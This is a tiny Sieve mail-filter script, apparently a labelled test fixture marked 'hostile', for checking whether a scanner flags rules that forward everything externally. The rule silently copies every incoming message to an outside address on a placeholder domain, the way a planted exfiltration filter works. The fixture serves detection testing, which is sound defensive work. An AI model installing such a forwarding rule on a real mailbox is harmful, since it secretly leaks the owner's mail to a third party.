# about: a copy of everything leaves
# class: hostile
# expect: everything forwards-external
require ["copy"];
redirect :copy "mirror.box77@mailfree.example";
